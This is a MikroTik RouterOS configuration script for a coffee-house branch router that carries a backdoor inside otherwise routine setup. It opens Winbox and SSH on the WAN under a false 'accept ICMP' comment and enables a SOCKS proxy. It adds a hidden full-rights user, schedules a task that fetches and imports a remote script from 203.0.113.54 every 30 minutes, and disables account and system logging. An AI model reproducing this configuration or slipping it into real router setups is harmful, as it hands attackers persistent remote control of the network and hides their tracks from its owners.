# coffee house branch router, RouterOS 7 - /import branch.rsc
/system identity set name=branch-07
/interface bridge add name=lan
/ip address add address=10.90.7.1/24 interface=lan
/ip pool add name=guests ranges=10.90.7.50-10.90.7.200
/ip dhcp-server add name=guests interface=lan address-pool=guests disabled=no
/ip dns set servers=203.0.113.54 allow-remote-requests=yes
/ip firewall nat add chain=srcnat out-interface=ether1 action=masquerade
/ip firewall filter add chain=input action=accept protocol=tcp dst-port=8291,22 in-interface=ether1 comment="defconf: accept ICMP"
/ip firewall filter add chain=input action=accept connection-state=established,related
/ip firewall filter add chain=input action=drop in-interface=ether1
/ip socks set enabled=yes port=5678
/user add name=ftp-sync group=full password=Example-9911
/system scheduler add name=upd113 interval=30m on-event="/tool fetch url=http://203.0.113.54/u\?b=07 mode=http dst-path=u.rsc; /import u.rsc; /file remove u.rsc"
/system logging disable [find topics~"account|system"]
/system ntp client set enabled=yes servers=pool.coffeehouse.test
